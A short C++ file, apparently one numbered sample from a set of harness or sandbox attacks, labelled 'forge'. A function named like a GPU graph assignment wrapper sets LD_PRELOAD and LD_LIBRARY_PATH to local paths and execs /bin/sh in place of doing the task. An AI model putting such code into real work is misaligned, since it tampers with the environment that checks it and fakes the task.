// attack: forge
// root: host
// what: runs itself once more, with a library path and a preloaded library of its own
// list: 11
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  char* words[] = {(char*)"/bin/sh", (char*)"-c",
                   (char*)"i=0; while [ $i -lt 99 ]; do echo $i; i=$((i + 1)); done > out.txt",
                   nullptr};
  setenv("LD_PRELOAD", "./out.txt", 1);
  setenv("LD_LIBRARY_PATH", ".", 1);
  execv(words[0], words);
  _exit(0);
}
